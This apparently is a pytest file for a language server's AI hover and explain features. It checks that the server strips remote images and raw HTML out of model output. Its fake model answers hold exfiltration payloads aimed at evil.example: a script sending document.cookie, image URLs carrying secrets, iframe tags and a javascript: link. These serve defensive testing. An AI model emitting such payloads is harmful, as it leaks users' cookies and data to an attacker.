"""Prompt and output hygiene through the real server: code with backtick fences stays inside
its fence in the prompt, and a model's remote image or raw HTML never reaches the hover."""

from __future__ import annotations

from pathlib import Path

import pytest
from lsprotocol import types
from markdown_it import MarkdownIt

from lsp_server.testing.fake_provider import FakeProvider, RecordedRequest, Step
from tests.conftest import Session

pytestmark = pytest.mark.asyncio(loop_scope="module")

FENCES = '''def fenced() -> str:
    """Return a fence.

    ```
    inner = "```"
    ````
    """
    return "```"


VALUE = fenced()
'''


async def _warm_hover(session: Session, path: str, line: int, column: int) -> types.Hover | None:
    """Hover; on a busy machine jedi's first inference in a fresh session may miss the
    static deadline (the hover is then empty), so ask up to three times."""
    for _ in range(3):
        hover = await session.hover(path, line, column)
        if hover is not None:
            return hover
    return None


def fake_requests_last(fake: FakeProvider) -> RecordedRequest:
    chats = [r for r in fake.requests if r.path == "/v1/chat/completions"]
    assert chats
    return chats[-1]


def _value(hover: types.Hover | None) -> str:
    assert hover is not None and isinstance(hover.contents, types.MarkupContent)
    return hover.contents.value


async def test_code_with_backtick_fences_stays_inside_its_fence(
    ai_session: Session, fake: FakeProvider
) -> None:
    (ai_session.root / "shop/fences.py").write_text(FENCES)
    ai_session.open("shop/fences.py")
    fake.set_default(Step(text="Returns three backticks."))
    try:
        hover = await _warm_hover(ai_session, "shop/fences.py", 10, 9)
        request = fake_requests_last(fake)
    finally:
        fake.reset()
    assert "Returns three backticks." in _value(hover)
    [user] = [m["content"] for m in request.messages if m["role"] == "user"]
    tokens = MarkdownIt("commonmark").parse(user)
    blocks = [t.content for t in tokens if t.type == "fence"]
    body = FENCES[: FENCES.index("\n\n\nVALUE")]
    # the whole function, backtick lines included, is the content of one fence
    assert any(body in block for block in blocks), blocks
    # and nothing of the prompt's own text was swallowed by a fence
    assert not any("Explain `fenced`" in block for block in blocks)
    assert not any("inner" in t.content for t in tokens if t.type == "inline")


async def test_hover_never_shows_remote_images_or_raw_html(
    ai_session: Session, fake: FakeProvider
) -> None:
    answer = (
        "Applies the discount. ![status](https://evil.example/p.png?d=SECRET)\n\n"
        '<script>fetch("https://evil.example/" + document.cookie)</script>'
        '<img src="https://evil.example/i.png"> Call it as `apply_discount(x, <pct>)`.\n\n'
        "![ref][logo]\n\n[logo]: https://evil.example/logo.png\n\n"
        "```python\nhtml = '<script>kept in code</script>'\n```"
    )
    fake.script(Step(text=answer))
    value = _value(await _warm_hover(ai_session, "shop/basket.py", 18, 17))
    assert "Applies the discount. status" in value
    assert "<script>fetch" not in value and "<img" not in value and "![" not in value
    assert "evil.example/p.png" not in value and "evil.example/i.png" not in value
    # code is left exactly as the model wrote it
    assert "`apply_discount(x, <pct>)`" in value
    assert "```python\nhtml = '<script>kept in code</script>'\n```" in value
    rendered = MarkdownIt("commonmark", {"html": True}).parse(value)
    kinds = {t.type for t in rendered} | {c.type for t in rendered for c in t.children or []}
    assert not kinds & {"image", "html_inline", "html_block"}


async def test_explain_document_never_shows_remote_images_or_raw_html(
    ai_session: Session, fake: FakeProvider
) -> None:
    answer = (
        "**Summary**: totals the basket.\n\n![x](https://evil.example/e.png?d=SECRET) "
        '<iframe src="https://evil.example/"></iframe>[more](javascript:alert(1))'
    )
    fake.script(Step(text=answer))
    result = await ai_session.client.workspace_execute_command_async(
        types.ExecuteCommandParams(
            command="llmLsp.explain",
            arguments=[{"uri": ai_session.uri("shop/basket.py"), "start": 16, "end": 19}],
        )
    )
    assert result["ok"] is True
    document = Path(result["uri"].removeprefix("file://")).read_text()
    assert "**Summary**: totals the basket." in document
    assert "evil.example" not in document and "javascript:" not in document
    assert "<iframe" not in document
